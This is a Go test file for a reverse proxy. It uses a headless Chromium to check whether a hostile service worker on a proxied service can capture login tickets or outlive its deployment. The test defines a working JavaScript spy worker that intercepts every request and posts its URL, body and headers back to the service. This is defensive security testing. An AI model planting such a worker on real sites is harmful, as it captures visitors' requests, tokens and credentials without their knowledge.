package proxy

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"berth/shared/attacktest"
	"berth/shared/order"
	"berth/shared/problem"
	"berth/shared/wire"
)

// guests are Doors whose tickets and cookies are real ones, as far as a browser is concerned.
type guests struct {
	*house

	mu      sync.Mutex
	tickets map[string]bool
	cookies map[string]bool
}

func (g *guests) ticket(text string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.tickets[text] = true
}

func (g *guests) Enter(ticket string, _ order.ID, _ string, _ time.Time) (string, string, time.Time, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if !g.tickets[ticket] {
		return "", "", time.Time{}, problem.New(401, problem.Expired, "no")
	}
	delete(g.tickets, ticket)
	c := fmt.Sprintf("%043d", len(g.cookies))
	g.cookies[c] = true
	return c, "/", time.Now().Add(time.Hour), nil
}

func (g *guests) Admits(c string, id order.ID, _ string) bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.cookies[c] && id == 1
}

func (g *guests) Leave(c string) error {
	g.mu.Lock()
	defer g.mu.Unlock()
	delete(g.cookies, c)
	return nil
}

// spying is a service whose page leaves a worker for its whole host, which tells all that it sees.
type spying struct {
	mu      sync.Mutex
	seen    []string
	stopped bool // the next revision has no worker any more
}

const spy = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => {
	const r = e.request;
	if (new URL(r.url).pathname === "/seen") return;
	e.respondWith((async () => {
		const body = r.method === "GET" ? "" : await r.clone().text();
		await fetch("/seen", { method: "POST", body: r.method + " " + r.url + " " + body + " " + r.referrer + " " + JSON.stringify([...r.headers]) });
		return fetch(r);
	})());
});`

func (s *spying) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	switch {
	case r.URL.Path == "/seen":
		b, _ := io.ReadAll(r.Body)
		s.seen = append(s.seen, string(b))
	case r.URL.Path == "/sw.js" && !s.stopped:
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Cache-Control", "max-age=86400")
		w.Header().Set("Service-Worker-Allowed", "/")
		io.WriteString(w, spy)
	case r.URL.Path == "/sw.js":
		http.NotFound(w, r)
	default:
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<title>in</title>")
		if !s.stopped {
			io.WriteString(w, `<script>navigator.serviceWorker.register("/sw.js", { updateViaCache: "all" })</script>`)
		}
	}
}

func (s *spying) stop() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.stopped = true
}

// all is what the worker has told of.
func (s *spying) all() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.seen)
}

// saw reports whether the worker has told of something.
func (s *spying) saw(text string) bool {
	return slices.ContainsFunc(s.all(), func(line string) bool { return strings.Contains(line, text) })
}

// TestAttackWorker has a service worker of a service watch a visitor's browser while another ticket is used: on a domain
// like any other, and on one that browsers know as a public suffix.
func TestAttackWorker(t *testing.T) {
	attacktest.Whole(t)
	path := os.Getenv("BERTH_CHROMIUM")
	if path == "" {
		var err error
		if path, err = exec.LookPath("chromium"); err != nil {
			t.Fatal("no Chromium on this machine: install one, or set BERTH_CHROMIUM")
		}
	}
	a := attacktest.Begin(t, "a service worker sees a ticket, or outlives its deployment")
	for _, domain := range []string{"n1.localhost", "n1.example.org", "github.io"} {
		t.Run(domain, func(t *testing.T) { watch(t, a, path, domain) })
	}
}

func watch(t *testing.T, a *attacktest.Attack, browser, domain string) {
	service := &spying{}
	up := httptest.NewServer(service)
	defer up.Close()
	g := &guests{house: &house{addr: up.Listener.Addr().String(), phase: wire.PhaseReady}, tickets: map[string]bool{}, cookies: map[string]bool{}}
	g.bought.Store(1 << 40)
	front := httptest.NewUnstartedServer(nil)
	scheme, start := "https", front.StartTLS
	if strings.HasSuffix(domain, "localhost") {
		scheme, start = "http", front.Start
	}
	domain += front.Listener.Addr().String()[strings.LastIndexByte(front.Listener.Addr().String(), ':'):]
	p := New(Config{
		Domain: domain, Scheme: scheme, Idle: 5 * time.Second, Orders: g, Dialer: g.house, Doors: g, Log: slog.New(slog.NewTextHandler(t.Output(), nil)),
	})
	defer p.Close()
	front.Config.Handler = p
	start()
	defer front.Close()

	ctx, cancel := chromedp.NewExecAllocator(t.Context(), append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]),
		chromedp.ExecPath(browser), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.Flag("ignore-certificate-errors", true),
		chromedp.Flag("host-resolver-rules", "MAP * 127.0.0.1"), chromedp.Flag("disable-background-networking", true),
	)...)
	defer cancel()
	ctx, cancel = chromedp.NewContext(ctx)
	defer cancel()
	ctx, cancel = context.WithTimeout(ctx, time.Minute)
	defer cancel()
	home := scheme + "://" + Host(domain, 1, "web")
	goTo := func(to string) {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(to)); err != nil {
			t.Fatalf("%s: %v", to, err)
		}
	}
	until := func(what, expression string) {
		t.Helper()
		var last string
		for end := time.Now().Add(15 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
			if ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](expression, chromedp.EvalAwaitPromise)); err == nil && ok {
				return
			}
			last, _ = chromedp.Run(ctx, chromedp.Evaluate[string]("location.href + ' ' + document.body.innerText"))
		}
		t.Fatalf("%s: not so; the page: %s; seen: %q", what, last, service.all())
	}
	enter := func(ticket, to string) {
		t.Helper()
		g.ticket(ticket)
		goTo(EnterURL(home, ticket, to))
		until("in with "+ticket, fmt.Sprintf("location.href === %q && document.title === 'in'", home+to))
	}
	enter("the-first-ticket", "/?first")
	until("the worker watches", "!!navigator.serviceWorker.controller")

	enter("the-second-ticket", "/?a=b;c#d")
	// Its worker answers only once it has told.
	if !service.saw("GET " + home + "/?a=b;c") {
		t.Errorf("the worker does not watch: %q", service.all())
	}
	a.Tried(service.saw("the-second-ticket") || service.saw("ticket="), "a ticket that is used while the worker watches: %q", service.all())
	if Listed(domain) != service.saw("code=") {
		t.Errorf("a sealed ticket comes by the service's host where the domain is listed, and only there: %q", service.all())
	}
	// It would see one in a navigation, and that one opens nothing.
	g.ticket("a-ticket-astray")
	goTo(home + Prefix + "enter?ticket=a-ticket-astray")
	until("refused", "document.title !== 'in'")
	if !service.saw("a-ticket-astray") {
		t.Errorf("the worker does not watch: %q", service.all())
	}
	_, _, _, err := g.Enter("a-ticket-astray", 1, "web", time.Time{})
	a.Tried(err == nil, "a ticket that a worker saw")

	// The next deployment has no worker: the one in the browser goes with the next visits.
	service.stop()
	gone := false
	for range 3 {
		goTo(home + "/?next")
		for end := time.Now().Add(4 * time.Second); !gone && time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
			n, err := chromedp.Run(ctx, chromedp.Evaluate[int]("navigator.serviceWorker.getRegistrations().then(all => all.length)", chromedp.EvalAwaitPromise))
			gone = err == nil && n == 0
		}
	}
	a.Tried(!gone, "a worker of an earlier deployment stays")
}
